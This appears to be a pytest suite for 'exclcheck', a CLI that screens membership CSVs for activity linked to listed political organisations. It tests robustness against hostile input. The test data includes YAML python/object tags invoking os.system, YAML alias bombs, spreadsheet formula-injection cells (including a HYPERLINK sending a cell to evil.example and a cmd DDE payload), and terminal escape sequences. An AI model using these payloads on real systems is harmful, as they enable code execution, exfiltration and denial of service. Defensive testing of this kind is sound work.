"""Hostile and broken inputs through the command line: every row accounted for, never a
traceback, every failure one line naming the file (and row or line) with exit code 2.

In-process cases use click's CliRunner with `catch_exceptions=False`, so an unexpected
exception fails the test instead of becoming an exit code. Cases that need a real
process (a shell pipeline, a signal) run the installed `exclcheck` script.
"""

from __future__ import annotations

import builtins
import codecs
import csv
import io
import json
import os
import random
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, NoReturn

import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st

from exclcheck.cli import cli, main
from exclcheck.dates import parse_date
from exclcheck.judge import Judge
from exclcheck.redact import pseudonym

from .conftest import ROOT

EXCLCHECK = Path(sys.executable).with_name("exclcheck")
EXAMPLE = ROOT / "examples" / "members.csv"
HEADER = "member_id,name,date,activity,source"
SOLD = "Sold copies of Solidarity for the AWL"
AWL = "alliance-for-workers-liberty"


def run(*args: str | Path, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args], env=env, catch_exceptions=False)


def csv_bytes(*rows: str, encoding: str = "utf-8", newline: str = "\n") -> bytes:
    """The header and rows (already CSV-formatted lines) as bytes."""
    return "".join(line + newline for line in (HEADER, *rows)).encode(encoding)


def write(tmp_path: Path, data: bytes, name: str = "members.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def scan_json(path: Path, *options: str) -> tuple[Result, dict[str, Any]]:
    """Scan as one JSON document; check it parses and that every row is accounted for."""
    result = run("scan", "--format", "json", *options, path)
    assert result.exit_code in (0, 1), result.stderr
    assert "Traceback" not in result.stderr
    document: dict[str, Any] = json.loads(result.stdout)
    assert_accounted(document)
    return result, document


def assert_accounted(document: dict[str, Any]) -> None:
    """rows_read = scanned + rejected, and the rejected and flagged rows are real rows."""
    summary = document["summary"]
    assert summary["rows_read"] == summary["rows_scanned"] + summary["rows_rejected"]
    rejected = [item["row"] for item in summary["rejected"]]
    assert len(rejected) == summary["rows_rejected"] == len(set(rejected))
    assert all(1 <= row <= summary["rows_read"] for row in rejected)
    for finding in document["findings"]:
        assert 1 <= finding["row"] <= summary["rows_read"]
        assert finding["row"] not in rejected
    assert summary["findings"] == len(document["findings"])


def assert_one_line_error(result: Result, *needles: str) -> str:
    """Exit 2, nothing on standard output, one line on standard error holding each needle."""
    assert result.exit_code == 2
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    for needle in needles:
        assert needle in lines[0]
    return lines[0]


def rules_file(tmp_path: Path, text: str, name: str = "rules.yaml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# --- input files: encodings and line ends --------------------------------------------


def test_utf8_with_bom_reads_the_first_column(tmp_path: Path) -> None:
    path = write(tmp_path, codecs.BOM_UTF8 + csv_bytes(f"M1,Siân Evans,2023-01-01,{SOLD},x"))
    result, document = scan_json(path)
    assert result.exit_code == 1
    assert [(f["member_id"], f["name"]) for f in document["findings"]] == [("M1", "Siân Evans")]
    assert result.stderr == ""  # UTF-8 with a BOM is not a fallback worth a warning


def test_crlf_line_ends_leave_no_carriage_return_in_fields(tmp_path: Path) -> None:
    data = csv_bytes(
        f"M1,Ann Lee,2023-01-01,{SOLD},stall",
        f'M2,Bo Chan,2023-01-01,"{SOLD}\r\nat the station",stall',
        "M3,Cy Day,2023-01-01,Went to the shops,stall",
        newline="\r\n",
    )
    _result, document = scan_json(write(tmp_path, data))
    assert document["summary"]["rows_read"] == 3
    assert document["summary"]["rows_scanned"] == 3
    findings = document["findings"]
    assert [f["member_id"] for f in findings] == ["M1", "M2"]
    assert all(f["source"] == "stall" for f in findings)
    assert findings[0]["activity"] == SOLD
    assert findings[1]["activity"] == f"{SOLD}\r\nat the station"  # the field's own break


def test_old_mac_cr_line_ends(tmp_path: Path) -> None:
    data = csv_bytes(f"M1,Ann Lee,2023-01-01,{SOLD},x", "M2,Bo,2023-01-01,hi,x", newline="\r")
    _result, document = scan_json(write(tmp_path, data))
    assert document["summary"]["rows_scanned"] == 2
    assert [f["source"] for f in document["findings"]] == ["x"]


CP1252_ROWS = (
    f"M1,Zoë O’Brien,2023-01-01,{SOLD},stall",
    f"M2,Siân Evans,2023-01-01,{SOLD} – “every week”,stall",
)


def test_windows_1252_is_detected_and_names_read_correctly(tmp_path: Path) -> None:
    path = write(tmp_path, csv_bytes(*CP1252_ROWS, encoding="cp1252"))
    result, document = scan_json(path)
    assert result.exit_code == 1
    assert [f["name"] for f in document["findings"]] == ["Zoë O’Brien", "Siân Evans"]
    assert {f["organisation"] for f in document["findings"]} == {AWL}
    assert document["findings"][1]["activity"] == f"{SOLD} – “every week”"
    warning = result.stderr.splitlines()[0]
    assert warning.startswith(f"{path}: not UTF-8")
    assert "Windows-1252" in warning
    assert "--encoding" in warning


def test_a_byte_undefined_in_windows_1252_falls_back_to_latin_1(tmp_path: Path) -> None:
    data = csv_bytes(f"M1,Zoë,2023-01-01,{SOLD},x", encoding="cp1252").replace(
        b"Zo\xeb", b"Zo\xeb\x81"
    )
    result, document = scan_json(write(tmp_path, data))
    assert [f["name"] for f in document["findings"]] == ["Zoë\x81"]
    assert "read as Latin-1" in result.stderr
    assert "Windows-1252" not in result.stderr


def test_forced_encoding_gives_no_detection_warning(tmp_path: Path) -> None:
    path = write(tmp_path, csv_bytes(*CP1252_ROWS, encoding="cp1252"))
    result = run("scan", "--format", "jsonl", "--encoding", "cp1252", path)
    assert result.exit_code == 1
    names = [json.loads(line)["name"] for line in result.stdout.split("\n") if line]
    assert names == ["Zoë O’Brien", "Siân Evans"]
    assert result.stderr.splitlines() == [
        "exclcheck: 2 rows read, 2 scanned, 0 rejected; 2 findings for 2 members"
    ]


def test_forced_utf8_on_a_bad_byte_deep_in_the_file_names_file_and_row(tmp_path: Path) -> None:
    rows = [f"M{i},Ann Lee,2023-01-01,Went to the shops,x" for i in range(3000)]
    rows.append("M9,Zoë,2023-01-01,Went to the shops,x")
    path = write(tmp_path, csv_bytes(*rows, encoding="cp1252"))
    result = run("scan", "--format", "csv", "-o", tmp_path / "out.csv", "--encoding", "utf-8", path)
    line = assert_one_line_error(result, str(path), "cannot be read as utf-8")
    reached = re.search(r"after row (\d+)", line)
    assert reached is not None
    assert int(reached.group(1)) <= 3000
    assert not (tmp_path / "out.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["members.csv"]  # no temporary left


def test_unknown_encoding_is_one_line() -> None:
    assert_one_line_error(run("scan", "--encoding", "no-such-codec", EXAMPLE), "no-such-codec")


def test_a_codec_that_is_not_a_text_encoding_is_one_line() -> None:
    assert_one_line_error(run("scan", "--encoding", "rot13", EXAMPLE), "not a text encoding")


@pytest.mark.parametrize("bom", [codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE])
def test_utf16_with_a_byte_order_mark(tmp_path: Path, bom: bytes) -> None:
    codec = "utf-16-le" if bom == codecs.BOM_UTF16_LE else "utf-16-be"
    data = bom + csv_bytes(f"M1,Siân Evans,2023-01-01,{SOLD},x", encoding=codec, newline="\r\n")
    result, document = scan_json(write(tmp_path, data))
    assert [f["name"] for f in document["findings"]] == ["Siân Evans"]
    assert "UTF-16" in result.stderr


def test_nul_bytes_inside_a_field_are_removed_and_said(tmp_path: Path) -> None:
    data = csv_bytes("M1,Ann\x00 Lee,2023-01-01,Sold co\x00pies of Solidarity for the AWL,x")
    path = write(tmp_path, data)
    result, document = scan_json(path)
    assert document["summary"]["rows_scanned"] == 1
    assert [(f["name"], f["activity"]) for f in document["findings"]] == [("Ann Lee", SOLD)]
    assert result.stderr.count("NUL") == 1
    assert f"{path}: removed 2 NUL byte(s)" in result.stderr.splitlines()


# --- input files: broken CSV ---------------------------------------------------------


def test_unclosed_quote_is_one_rejected_row_naming_a_line_span(tmp_path: Path) -> None:
    data = csv_bytes(
        f"M1,Ann Lee,2023-01-01,{SOLD},x",
        'M2,Bo Chan,2023-01-01,"Sold copies of Solidarity,x',
        f"M3,Cy Day,2023-01-01,{SOLD},x",
        f"M4,Di Eve,2023-01-01,{SOLD},x",
    )
    path = write(tmp_path, data)
    result, document = scan_json(path)
    summary = document["summary"]
    assert (summary["rows_read"], summary["rows_scanned"], summary["rows_rejected"]) == (2, 1, 1)
    [rejected] = summary["rejected"]
    assert rejected["row"] == 2
    assert re.search(r"lines 3-5\b", rejected["reason"])
    assert "unclosed quote" in rejected["reason"]
    assert f"{path}: row 2: rejected:" in result.stderr


def test_rows_with_too_many_or_too_few_fields_are_rejected_with_their_row(
    tmp_path: Path,
) -> None:
    data = csv_bytes(
        f"M1,Ann Lee,2023-01-01,{SOLD},x,extra",
        "M2,Bo Chan,2023-01-01,short",
        f"M3,Cy Day,2023-01-01,{SOLD},x",
        "",  # a blank line is not a row
        "M4,Di Eve,2023-01-01,Went to the shops,x",
    )
    path = write(tmp_path, data)
    result, document = scan_json(path)
    summary = document["summary"]
    assert (summary["rows_read"], summary["rows_scanned"], summary["rows_rejected"]) == (4, 2, 2)
    assert summary["rejected"] == [
        {"row": 1, "reason": "has 6 fields; the header has 5 (line 2)"},
        {"row": 2, "reason": "has 4 fields; the header has 5 (line 3)"},
    ]
    assert [f["member_id"] for f in document["findings"]] == ["M3"]
    assert f"{path}: row 1: rejected: has 6 fields" in result.stderr
    assert f"{path}: row 2: rejected: has 4 fields" in result.stderr


def test_a_row_without_member_id_is_rejected(tmp_path: Path) -> None:
    data = csv_bytes(f"  ,Ann Lee,2023-01-01,{SOLD},x", f"M2,Bo,2023-01-01,{SOLD},x")
    _result, document = scan_json(write(tmp_path, data))
    assert document["summary"]["rejected"] == [{"row": 1, "reason": "no member id"}]
    assert [f["row"] for f in document["findings"]] == [2]


def test_empty_file_is_one_line_exit_2(tmp_path: Path) -> None:
    path = write(tmp_path, b"")
    assert_one_line_error(run("scan", path), str(path), "empty")


def test_header_only_is_a_clean_run_of_no_rows(tmp_path: Path) -> None:
    result, document = scan_json(write(tmp_path, csv_bytes()))
    assert result.exit_code == 0
    assert document["findings"] == []
    assert document["summary"]["rows_read"] == 0


def test_duplicate_header_names_are_named(tmp_path: Path) -> None:
    path = write(tmp_path, b"member_id,name,date,activity,source,name,date\nM1,a,b,c,d,e,f\n")
    line = assert_one_line_error(run("scan", path), str(path), "duplicate")
    assert line.endswith("date, name")


def test_a_header_too_large_to_read_is_one_line(tmp_path: Path) -> None:
    path = write(tmp_path, b"member_id,name,date,activity,source," + b"x" * (2 << 20) + b"\n")
    assert_one_line_error(run("scan", path), str(path), "header")


def test_a_10_mb_field_rejects_its_row_only_and_quickly(tmp_path: Path) -> None:
    huge = "a" * 10_000_000
    data = csv_bytes(
        f"M1,Ann Lee,2023-01-01,{SOLD},x",
        f'M2,Bo Chan,2023-01-01,"{huge}",x',
        f"M3,Cy Day,2023-01-01,{SOLD},x",
        f"M4,Di Eve,2023-01-01,{huge},x",
        f"M5,Ed Fox,2023-01-01,{SOLD},x",
    )
    path = write(tmp_path, data)
    started = time.monotonic()
    _result, document = scan_json(path)
    assert time.monotonic() - started < 5
    summary = document["summary"]
    assert (summary["rows_read"], summary["rows_scanned"], summary["rows_rejected"]) == (5, 3, 2)
    assert [r["row"] for r in summary["rejected"]] == [2, 4]
    assert all("larger than" in r["reason"] for r in summary["rejected"])
    assert [f["member_id"] for f in document["findings"]] == ["M1", "M3", "M5"]


def test_a_large_multiline_field_rejects_its_row_only(tmp_path: Path) -> None:
    note = ("a" * 1000 + "\n") * 2000  # 2 MB, over the 1 MiB field limit
    data = csv_bytes(
        f"M1,Ann Lee,2023-01-01,{SOLD},x",
        f'M2,Bo Chan,2023-01-01,"{note}",x',
        f"M3,Cy Day,2023-01-01,{SOLD},x",
    )
    _result, document = scan_json(write(tmp_path, data))
    summary = document["summary"]
    assert (summary["rows_read"], summary["rows_scanned"], summary["rows_rejected"]) == (3, 2, 1)
    assert [f["member_id"] for f in document["findings"]] == ["M1", "M3"]


# --- input files: not CSV at all, or not there -----------------------------------------


def test_binary_garbage_is_refused_as_binary(tmp_path: Path) -> None:
    rng = random.Random(20240601)
    garbage = bytes(rng.choice((0, rng.randrange(256))) for _ in range(64 * 1024))
    path = write(tmp_path, garbage, "dump.csv")
    assert_one_line_error(run("scan", path), str(path), "binary")


@pytest.mark.parametrize(
    ("signature", "said"),
    [
        (b"PK\x03\x04\x14\x00\x06\x00", "Excel"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Excel"),
        (b"%PDF-1.7\n", "PDF"),
        (b"\x1f\x8b\x08\x00", "gzip"),
    ],
)
def test_workbooks_and_archives_are_named(tmp_path: Path, signature: bytes, said: str) -> None:
    path = write(tmp_path, signature + bytes(range(256)) * 4, "members.xlsx")
    assert_one_line_error(run("scan", path), str(path), said)


def test_a_directory_is_one_line(tmp_path: Path) -> None:
    assert_one_line_error(run("scan", tmp_path), str(tmp_path), "folder")


def test_a_missing_file_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "nowhere.csv"
    assert_one_line_error(run("scan", path), str(path), "no such file")


def test_an_unreadable_file_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write(tmp_path, csv_bytes(f"M1,Ann Lee,2023-01-01,{SOLD},x"))
    real_open = builtins.open

    def guarded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, str | os.PathLike) and os.fspath(file) == str(path):
            raise PermissionError(13, "Permission denied", os.fspath(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)
    assert_one_line_error(run("scan", path), str(path), "permission denied")


def test_strict_turns_a_rejected_row_into_exit_2(tmp_path: Path) -> None:
    path = write(tmp_path, csv_bytes("M1,Ann,2023-01-01,short", f"M2,Bo,2023-01-01,{SOLD},x"))
    strict = run("scan", "--format", "jsonl", "--strict", path)
    assert strict.exit_code == 2
    assert "Traceback" not in strict.stderr
    assert strict.stderr.splitlines()[-1] == f"{path}: 1 row(s) rejected (--strict)"
    assert f"{path}: row 1: rejected:" in strict.stderr
    lenient, document = scan_json(path)
    assert lenient.exit_code == 1
    assert [f["member_id"] for f in document["findings"]] == ["M2"]


@pytest.mark.parametrize(
    ("header", "needles"),
    [
        (
            "member_id,name,date,notes,source",
            ("no column 'activity'", "member_id, name, date, notes, source", "--text-column"),
        ),
        ("member_id,name,date,activty,source", ("did you mean 'activty'?", "--text-column")),
        ("id,name,date,activity,source", ("no column 'member_id'", "--id-column")),
        ("member_id,name,when,activity", ("no column 'date'", "--date-column")),
    ],
)
def test_a_missing_required_column_is_one_line_with_the_option(
    tmp_path: Path, header: str, needles: tuple[str, ...]
) -> None:
    path = write(tmp_path, f"{header}\nM1,a,b,c,d\n".encode())
    line = assert_one_line_error(run("scan", path), *needles)
    assert line.startswith(f"{path}: ")


def test_a_control_sequence_in_a_header_does_not_reach_the_terminal(tmp_path: Path) -> None:
    path = write(tmp_path, b"member_id,name,date,\x1b]0;pwned\x07no\x0btes,source\nM1,a,b,c,d\n")
    result = run("scan", path)
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr
    assert "\x07" not in result.stderr
    assert len(result.stderr.splitlines()) == 1  # a vertical tab is a line break too


def test_standard_input_in_windows_1252(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli,
        ["scan", "--format", "json", "-"],
        input=csv_bytes(*CP1252_ROWS, encoding="cp1252"),
        catch_exceptions=False,
    )
    assert result.exit_code == 1
    document = json.loads(result.stdout)
    assert_accounted(document)
    assert [f["name"] for f in document["findings"]] == ["Zoë O’Brien", "Siân Evans"]
    assert "-: not UTF-8" in result.stderr


# --- rules files -------------------------------------------------------------------------

VALID_RULES = """\
version: 1
organisations:
  - id: alpha
    name: Alpha Front
    proscribed_on: 2020-01-01
criteria:
  - id: membership
    cues: [member]
"""


@pytest.mark.parametrize(
    "template",
    [
        'version: 1\norganisations:\n  - !!python/object/apply:os.system ["touch {marker}"]\n',
        'version: !!python/object/apply:os.system {{args: ["touch {marker}"]}}\n',
        'version: !!python/object/new:os.system ["touch {marker}"]\n',
        "version: 1\norganisations:\n"
        '  - id: !!python/object/apply:os.system ["touch {marker}"]\n    name: x\n',
        "version: !!python/name:os.system\n",
    ],
)
@pytest.mark.parametrize("command", ["validate", "scan"])
def test_python_tags_in_rules_are_refused_and_never_run(
    tmp_path: Path, template: str, command: str
) -> None:
    marker = tmp_path / "PWNED"
    rules = rules_file(tmp_path, template.format(marker=marker))
    if command == "validate":
        result = run("rules", "validate", rules)
    else:
        result = run("scan", "--rules", rules, write(tmp_path, csv_bytes("M1,a,2023-01-01,b,c")))
    line = assert_one_line_error(result, "python/")
    assert re.match(rf"{re.escape(str(rules))}:\d+:\d+: ", line)
    assert not marker.exists()


def _nested_bomb() -> str:
    lines = ["version: 1", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 8)}]" for i in range(1, 10)]
    return "\n".join([*lines, "organisations: *a9", "lookalikes: *a9", ""])


def _wide_bomb() -> str:
    # Each of 2,000 organisations is one alias of an organisation with 2,000 names:
    # 4 million nodes to read from a 50 KB file.
    names = ", ".join(f"Name number {i}" for i in range(2000))
    lines = ["version: 1", "organisations:"]
    lines.append(f"  - &o {{id: x, name: X, proscribed_on: 2022-01-01, aliases: [{names}]}}")
    lines += ["  - *o"] * 2000
    return "\n".join([*lines, ""])


@pytest.mark.parametrize("text", [_nested_bomb(), _wide_bomb()], ids=["nested", "wide"])
def test_alias_expansion_bombs_fail_fast(tmp_path: Path, text: str) -> None:
    rules = rules_file(tmp_path, text)
    started = time.monotonic()
    result = run("rules", "validate", rules)
    assert time.monotonic() - started < 5
    assert result.exit_code == 2
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert 1 <= len(lines) <= 50
    assert all(re.match(rf"{re.escape(str(rules))}:\d+:\d+: ", line) for line in lines)


def test_the_wide_bomb_is_stopped_by_the_node_limit(tmp_path: Path) -> None:
    rules = rules_file(tmp_path, _wide_bomb())
    assert_one_line_error(run("rules", "validate", rules), "too many YAML nodes")


def test_a_successor_cycle_is_refused(tmp_path: Path) -> None:
    rules = rules_file(
        tmp_path,
        VALID_RULES.replace(
            "    proscribed_on: 2020-01-01\n",
            "    successor_of: beta\n  - id: beta\n    name: Beta Front\n    successor_of: alpha\n",
        ),
    )
    for result in (
        run("rules", "validate", rules),
        run("scan", "--rules", rules, write(tmp_path, csv_bytes("M1,a,2023-01-01,b,c"))),
    ):
        assert result.exit_code == 2
        assert "Traceback" not in result.stderr
        assert result.stderr.splitlines() == [
            f"{rules}:3:5: successor links of 'alpha' form a cycle",
            f"{rules}:6:5: successor links of 'beta' form a cycle",
        ]


def test_a_valid_minimal_rules_file_is_accepted(tmp_path: Path) -> None:
    result = run("rules", "validate", rules_file(tmp_path, VALID_RULES))
    assert result.exit_code == 0
    assert result.stdout.startswith("ok: 1 organisations, 1 criteria")


# --- output formats -------------------------------------------------------------------


def test_csv_output_neutralises_formula_cells(tmp_path: Path) -> None:
    rows = [
        ("@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "2023-01-01",
         f"+cmd|' /C calc'!A0 {SOLD}", "-2+3", "=1+1"),
        ("M2", "\tTab Start", "2023-01-01", f"{SOLD}", "\rcr", "ok"),
    ]  # fmt: skip
    stream = io.StringIO()
    csv.writer(stream).writerows([(*HEADER.split(","), "=branch"), *rows])
    path = write(tmp_path, stream.getvalue().encode())
    result = run("scan", "--format", "csv", path)
    assert result.exit_code == 1
    header, *cells = list(csv.reader(io.StringIO(result.stdout)))
    assert header[-1] == "'=branch"
    out = [dict(zip(header, row, strict=True)) for row in cells]
    assert len(out) == 2
    first = out[0]
    assert first["member_id"] == "'@SUM(A1)"
    assert first["name"] == "'" + rows[0][1]
    assert first["activity"] == "'" + rows[0][3]
    assert first["source"] == "'-2+3"
    assert first["'=branch"] == "'=1+1"
    assert first["matched_text"] == "Solidarity"
    assert int(first["matched_start"]) == rows[0][3].index("Solidarity")  # numbers untouched
    # Names are stripped on the way in, so the tab is gone; the source kept its CR.
    assert out[1]["name"] == "Tab Start"
    for row in cells:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_table_shows_markup_literally_and_sends_no_escape_bytes(tmp_path: Path) -> None:
    stream = io.StringIO()
    csv.writer(stream).writerows(
        [
            HEADER.split(","),
            ("M1\x1b]0;pwned\x07", "[bold red]x[/]", "2023-01-01", f"\x1b[31m{SOLD}\x1b[0m", "x"),
            ("M2", "[link=http://evil.example]y[/link]", "2023-01-01", f"{SOLD}\x9b2J", "x"),
        ]
    )
    path = write(tmp_path, stream.getvalue().encode())
    result = run("scan", "--format", "table", path, env={"COLUMNS": "200"})
    assert result.exit_code == 1
    assert "[bold red]x[/]" in result.stdout
    assert "[link=http://evil.example]y[/link]" in result.stdout
    for control in ("\x1b", "\x07", "\x9b"):
        assert control not in result.stdout
        assert control not in result.stderr
    assert "rows read 2: scanned 2, rejected 0" in result.stdout


ODD_TEXTS = (
    "bell\x07 backspace\x08 escape\x1b[2J vertical\x0b formfeed\x0c del\x7f",
    "line\u2028separator and paragraph\u2029separator",
    "next\x85line, bom\ufeff, rtl\u202eoverride\u202c, zero\u200bwidth",
    "noncharacters \ufffe \uffff \U0010ffff, private \ue000, emoji 👩‍👩‍👧",
    "combining Zoe\u0308 and i\u0307, tabs\tand a\rcarriage return",
)


def test_json_stays_valid_for_odd_characters(tmp_path: Path) -> None:
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow(HEADER.split(","))
    for i, odd in enumerate(ODD_TEXTS, 1):
        writer.writerow((f"M{i}", f"Name{odd[:6]}", "2023-01-01", f"{SOLD}. {odd}", odd))
    path = write(tmp_path, stream.getvalue().encode())
    _result, document = scan_json(path)
    assert document["summary"]["rows_scanned"] == len(ODD_TEXTS)
    assert [f["activity"] for f in document["findings"]] == [f"{SOLD}. {o}" for o in ODD_TEXTS]
    assert [f["source"] for f in document["findings"]] == [o.strip() for o in ODD_TEXTS]
    # JSON Lines: one document per "\n"-separated line (U+2028 and U+0085 are not breaks).
    jsonl = run("scan", "--format", "jsonl", path).stdout
    lines = jsonl.split("\n")
    assert lines[-1] == ""
    assert [json.loads(line)["member_id"] for line in lines[:-1]] == [
        f"M{i}" for i in range(1, len(ODD_TEXTS) + 1)
    ]


def test_json_stays_valid_for_a_windows_1252_garbage_row(tmp_path: Path) -> None:
    undefined = {0x81, 0x8D, 0x8F, 0x90, 0x9D}
    garbage = bytes(b for b in range(0x80, 0x100) if b not in undefined)
    data = csv_bytes(f"M1,Ann Lee,2023-01-01,{SOLD}. ", "M2,x,2023-01-01,junk,x").replace(
        b"AWL. \n", b"AWL. " + garbage.replace(b",", b"") + b",x\n"
    )
    result, document = scan_json(write(tmp_path, data))
    assert "Windows-1252" in result.stderr
    [finding] = document["findings"]
    assert finding["activity"] == f"{SOLD}. " + garbage.decode("cp1252")
    assert document["summary"]["rows_scanned"] == 2


# --- the process: pipes, signals, output files, the network ------------------------------


@pytest.fixture(scope="module")
def many_rows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """~20,000 rows, half of them findings."""
    path = tmp_path_factory.mktemp("big") / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(HEADER.split(","))
        for i in range(20_000):
            activity = SOLD if i % 2 == 0 else "Went to the shops"
            writer.writerow((f"M{i}", "Ann Lee", "2023-01-01", activity, "x"))
    return path


def _head_pipeline(path: Path, tmp_path: Path) -> tuple[str, str, int]:
    """`exclcheck scan BIG --format jsonl | head -1` in a real shell; (stdout, stderr, rc)."""
    err, rc = tmp_path / "stderr.txt", tmp_path / "rc.txt"
    command = (
        f"{{ '{EXCLCHECK}' scan '{path}' --format jsonl 2>'{err}'; echo $? >'{rc}'; }} | head -1"
    )
    done = subprocess.run(
        command, shell=True, capture_output=True, text=True, timeout=60, check=False
    )
    return done.stdout, err.read_text(), int(rc.read_text())


def test_a_closed_pipe_is_quiet(many_rows: Path, tmp_path: Path) -> None:
    stdout, stderr, _rc = _head_pipeline(many_rows, tmp_path)
    assert json.loads(stdout)["member_id"] == "M0"
    assert "Traceback" not in stderr
    assert "BrokenPipe" not in stderr
    assert "Exception ignored" not in stderr


def test_a_closed_pipe_exits_0(many_rows: Path, tmp_path: Path) -> None:
    _stdout, _stderr, rc = _head_pipeline(many_rows, tmp_path)
    assert rc == 0


def test_ctrl_c_while_reading_standard_input() -> None:
    process = subprocess.Popen(
        [str(EXCLCHECK), "scan", "-"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        time.sleep(1.0)
        process.send_signal(signal.SIGINT)
        stdout, stderr = process.communicate(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 130
    assert stdout == ""
    assert "Traceback" not in stderr
    # click writes a blank line first (to close a terminal's ^C echo); then one message.
    assert stderr.strip().splitlines() == ["exclcheck: interrupted"]


def test_ctrl_c_mid_scan_keeps_the_old_report(many_rows: Path, tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    report.write_text("OLD REPORT\n", encoding="utf-8")
    process = subprocess.Popen(
        [str(EXCLCHECK), "scan", str(many_rows), "-o", str(report)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 20
        while not any(p.name.endswith(".tmp") for p in tmp_path.iterdir()):
            assert process.poll() is None, "the scan ended before writing a temporary file"
            assert time.monotonic() < deadline
            time.sleep(0.005)
        process.send_signal(signal.SIGINT)
        _stdout, stderr = process.communicate(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert process.returncode == 130
    assert stderr.strip().splitlines() == ["exclcheck: interrupted"]
    assert report.read_text(encoding="utf-8") == "OLD REPORT\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


@pytest.mark.parametrize("suffix", [".json", ".jsonl", ".csv"])
def test_an_interrupted_scan_leaves_the_old_report_and_no_temporary(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    suffix: str,
) -> None:
    rows = [f"M{i},Ann Lee,2023-01-01,{SOLD},x" for i in range(5)]
    path = write(tmp_path, csv_bytes(*rows))
    report = tmp_path / f"report{suffix}"
    report.write_text("OLD REPORT\n", encoding="utf-8")
    real_assess = Judge.assess
    calls = 0

    def assess(self: Judge, *args: Any, **kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise KeyboardInterrupt
        return real_assess(self, *args, **kwargs)

    monkeypatch.setattr(Judge, "assess", assess)
    # One job: the patched Judge.assess must run in this process to be counted.
    argv = ["exclcheck", "scan", str(path), "-o", str(report), "--jobs", "1"]
    monkeypatch.setattr(sys, "argv", argv)
    with pytest.raises(SystemExit) as exited:
        main()
    assert exited.value.code == 130
    assert calls == 2
    assert report.read_text(encoding="utf-8") == "OLD REPORT\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([path.name, report.name])
    assert capsys.readouterr().err.strip().splitlines() == ["exclcheck: interrupted"]


def _no_network(*args: object, **kwargs: object) -> NoReturn:
    raise OSError("exclcheck tried to use the network")


def test_a_scan_uses_no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("socket", "create_connection", "getaddrinfo", "socketpair"):
        monkeypatch.setattr(socket, name, _no_network)
    for fmt in ("json", "table"):
        result = run("scan", "--format", fmt, "--redact", EXAMPLE)
        assert result.exit_code == 1
    result, document = scan_json(EXAMPLE)
    assert document["summary"]["rows_read"] == 55
    assert run("rules", "validate").exit_code == 0


# --- --redact --------------------------------------------------------------------------

REDACT_ROWS = (
    f"M1,Ann Lee,2023-01-01,{SOLD},x",
    "M1,ann  LEE,2023-02-01,Sold Solidarity outside the station,x",
    f"M2,Siân Evans,2023-01-01,{SOLD},x",
)


@pytest.mark.parametrize("fmt", ["jsonl", "json", "csv", "table"])
def test_redact_replaces_names_with_stable_pseudonyms(tmp_path: Path, fmt: str) -> None:
    path = write(tmp_path, csv_bytes(*REDACT_ROWS))
    result = run("scan", "--format", fmt, "--redact", path, env={"COLUMNS": "250"})
    assert result.exit_code == 1
    output = result.stdout + result.stderr
    assert not re.search(r"(?i)\b(ann|lee|siân|evans)\b", output)
    ann, sian = pseudonym("Ann Lee"), pseudonym("Siân Evans")
    assert ann != sian
    assert re.fullmatch(r"person-[0-9a-f]{10}", ann)
    assert output.count(ann) == 2  # both of Ann's rows, however her name was typed
    assert output.count(sian) == 1


def test_redact_also_hides_the_name_inside_the_activity(tmp_path: Path) -> None:
    path = write(tmp_path, csv_bytes(f"M1,Ann Lee,2023-01-01,{SOLD} - by Ann Lee,x"))
    result = run("scan", "--format", "jsonl", "--redact", path)
    assert result.exit_code == 1
    assert "Ann Lee" not in result.stdout


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_is_read_like_a_file(tmp_path: Path) -> None:
    # /dev/stdin or <(zcat export.csv.gz): a stream that cannot seek back after the
    # encoding is detected.
    fifo = tmp_path / "export.csv"
    os.mkfifo(fifo)
    data = csv_bytes(f"M1,Ann Lee,2023-01-01,{SOLD},x")
    writer = subprocess.Popen([sys.executable, "-c", f"open({str(fifo)!r}, 'wb').write({data!r})"])
    result = run("scan", "--format", "jsonl", fifo)
    writer.wait(timeout=30)
    assert result.exit_code == 1, result.output
    assert json.loads(result.stdout.splitlines()[0])["organisation"] == (
        "alliance-for-workers-liberty"
    )


